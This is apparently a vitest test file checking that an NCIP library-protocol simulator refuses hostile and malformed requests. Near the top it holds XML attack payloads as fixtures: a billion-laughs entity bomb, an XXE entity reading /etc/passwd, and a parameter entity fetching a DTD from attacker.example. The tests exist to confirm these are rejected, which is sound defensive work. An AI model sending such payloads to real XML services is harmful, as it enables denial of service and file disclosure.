/** The simulators are responders on the network: hostile and broken requests must be refused cheaply. */
import { describe, expect, it } from 'vitest';
import { alma, symphony } from './profiles.ts';
import { header, readFixture } from './testing.ts';
import { validateNcip2 } from './validate.ts';
import { buildRequest } from './wire/build-request.ts';
import { buildResponse, responseHeaderFor } from './wire/build-response.ts';
import { parseRequest } from './wire/parse-request.ts';

const lookup = buildRequest({ service: 'LookupUser', header, userId: 'P1' }, alma);

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<NCIPMessage xmlns="http://www.niso.org/2008/ncip"><LookupUser><InitiationHeader><FromAgencyId><AgencyId>&lol9;</AgencyId></FromAgencyId><ToAgencyId><AgencyId>X</AgencyId></ToAgencyId></InitiationHeader><UserId><UserIdentifierValue>1</UserIdentifierValue></UserId></LookupUser></NCIPMessage>`;

const XXE = `<?xml version="1.0"?>
<!DOCTYPE NCIPMessage [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<NCIPMessage xmlns="http://www.niso.org/2008/ncip"><LookupUser><InitiationHeader><FromAgencyId><AgencyId>A</AgencyId></FromAgencyId><ToAgencyId><AgencyId>B</AgencyId></ToAgencyId></InitiationHeader><UserId><UserIdentifierValue>&xxe;</UserIdentifierValue></UserId></LookupUser></NCIPMessage>`;

const PARAMETER_ENTITY = `<!DOCTYPE NCIPMessage [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]><NCIPMessage/>`;

describe('parseRequest refuses unsafe bodies before parsing', () => {
  it.each([
    ['billion laughs', BILLION_LAUGHS, 'entity-declaration'],
    ['external entity to file:///etc/passwd', XXE, 'entity-declaration'],
    ['parameter entity fetching a remote DTD', PARAMETER_ENTITY, 'entity-declaration'],
    ['lower-case entity declaration', XXE.replaceAll('ENTITY', 'entity'), 'entity-declaration'],
    ['internal subset without entities', '<!DOCTYPE NCIPMessage [ <!ELEMENT NCIPMessage ANY> ]><NCIPMessage/>', 'dtd-internal-subset'],
    ['empty body', '   \n ', 'empty'],
    ['plain text', 'GET / HTTP/1.1', 'not-xml'],
    ['JSON', '{"service":"LookupUser"}', 'not-xml'],
  ] as const)('%s → %s, answered as Invalid Message Syntax Error', (_label, body, reason) => {
    const r = parseRequest(body);
    expect(r).toMatchObject({
      ok: false,
      reason,
      problem: { type: 'Invalid Message Syntax Error', scheme: 'http://www.niso.org/ncip/v1_0/schemes/messagingerrortype/messagingerrortype.scm' },
    });
    expect(JSON.stringify(r)).not.toContain('root:');
  });

  it('refuses bodies over the size limit without parsing them (default 1 MiB)', () => {
    const padding = `<!--${'x'.repeat(1024 * 1024)}-->`;
    const big = lookup.replace('<NCIPMessage', `${padding}<NCIPMessage`);
    expect(parseRequest(big)).toMatchObject({ ok: false, reason: 'too-large' });
    expect(parseRequest(lookup, { maxBytes: 100 })).toMatchObject({ ok: false, reason: 'too-large', message: expect.stringMatching(/limit is 100 bytes/) });
  });

  it('counts bytes, not characters', () => {
    const body = lookup.replace('P1', '日'.repeat(200));
    const bytes = Buffer.byteLength(body);
    expect(parseRequest(body, { maxBytes: bytes })).toMatchObject({ ok: true });
    expect(parseRequest(body, { maxBytes: bytes - 1 })).toMatchObject({ ok: false, reason: 'too-large' });
  });

  it('accepts raw bytes, refusing invalid UTF-8', () => {
    expect(parseRequest(new TextEncoder().encode(lookup))).toMatchObject({ ok: true, request: { userId: 'P1' } });
    const broken = Uint8Array.from([...new TextEncoder().encode(lookup.slice(0, 50)), 0xff, 0xfe]);
    expect(parseRequest(broken)).toMatchObject({ ok: false, reason: 'not-utf8' });
  });

  it('refuses deeply nested bombs', () => {
    const deep = `<NCIPMessage>${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</NCIPMessage>`;
    expect(parseRequest(deep)).toMatchObject({ ok: false, problem: { type: 'Invalid Message Syntax Error' } });
  });

  it('accepts the plain NCIP 1 DOCTYPE and never resolves it', () => {
    const v1 = buildRequest({ service: 'CheckInItem', header, itemId: '100234' }, symphony);
    expect(v1).toContain('<!DOCTYPE NCIPMessage PUBLIC');
    expect(parseRequest(v1)).toMatchObject({ ok: true, version: '1.0', request: { service: 'CheckInItem', itemId: '100234' } });
  });

  it('ignores a byte-order mark', () => {
    expect(parseRequest(`\uFEFF${lookup}`)).toMatchObject({ ok: true });
  });
});

describe('parseRequest turns unusable messages into answerable Problems', () => {
  it.each([
    ['malformed XML', '<NCIPMessage><LookupUser></NCIPMessage>', 'malformed-xml', 'Invalid Message Syntax Error', undefined],
    ['an HTML page', '<html><body><p>hi</p></body></html>', 'not-ncip', 'Invalid Message Syntax Error', 'html'],
    ['an empty NCIPMessage', '<NCIPMessage xmlns="http://www.niso.org/2008/ncip"/>', 'not-ncip', 'Invalid Message Syntax Error', 'NCIPMessage'],
    ['a service nobody offers', lookup.replaceAll('LookupUser', 'RecallItem'), 'unsupported-service', 'Unsupported Service', 'RecallItem'],
    ['a response sent as a request', lookup.replaceAll('LookupUser', 'LookupUserResponse'), 'unsupported-service', 'Unsupported Service', 'LookupUserResponse'],
    ['no InitiationHeader', lookup.replace(/<InitiationHeader>.*<\/InitiationHeader>/, ''), 'missing-data', 'Needed Data Missing', 'InitiationHeader'],
    ['no user', lookup.replace(/<UserId>.*<\/UserId>/, ''), 'missing-data', 'Needed Data Missing', 'UserId'],
    [
      'an empty item id',
      buildRequest({ service: 'CheckInItem', header, itemId: 'X' }, alma).replace('>X<', '><'),
      'missing-data',
      'Needed Data Missing',
      'ItemId',
    ],
  ] as const)('%s', (_label, body, reason, type, element) => {
    const r = parseRequest(body);
    expect(r).toMatchObject({ ok: false, reason, problem: { type } });
    if (!r.ok) expect(r.problem.element).toBe(element);
  });

  it('keeps service, version and header so the Problem goes back in the same dialect, and it is schema-valid', async () => {
    const r = parseRequest(readFixture('ncip-requests', 'ncip-deleteItem-missingItem.xml'));
    expect(r).toMatchObject({ ok: false, service: 'DeleteItem', version: '2.02', header: { fromAgencyId: 'Relais', toAgencyId: 'Lehigh University' } });
    if (r.ok || !r.header || !r.service) return;
    const reply = buildResponse({ service: r.service, header: responseHeaderFor(r.header), problems: [r.problem] }, alma);
    expect(reply).toContain('<DeleteItemResponse><ResponseHeader><FromAgencyId><AgencyId>Lehigh University</AgencyId>');
    const bare = parseRequest('not xml at all');
    if (bare.ok) return;
    const bareReply = buildResponse({ problems: [bare.problem] }, alma);
    expect((await validateNcip2([reply, bareReply])).valid).toBe(true);
  });

  it('a version-1 request is recognised by its DOCTYPE, its version attribute, or its Unique wrappers', () => {
    const v1 = buildRequest({ service: 'DeleteItem', header, itemId: '1' }, symphony);
    const noDoctype = v1.replace(/<!DOCTYPE[^>]*>/, '');
    const noVersion = noDoctype.replace(/ version="[^"]*"/, '');
    for (const body of [v1, noDoctype, noVersion]) expect(parseRequest(body)).toMatchObject({ ok: true, version: '1.0' });
  });

  it('namespace prefixes are irrelevant (ns1:, v:, none)', () => {
    const prefixed = lookup
      .replace(/<(\/?)(?!\?)([A-Za-z])/g, '<$1ns1:$2')
      .replace('xmlns="http://www.niso.org/2008/ncip"', 'xmlns:ns1="http://www.niso.org/2008/ncip"');
    expect(prefixed).toContain('<ns1:LookupUser>');
    expect(parseRequest(prefixed)).toMatchObject({ ok: true, version: '2.02', request: { service: 'LookupUser', userId: 'P1' } });
  });
});
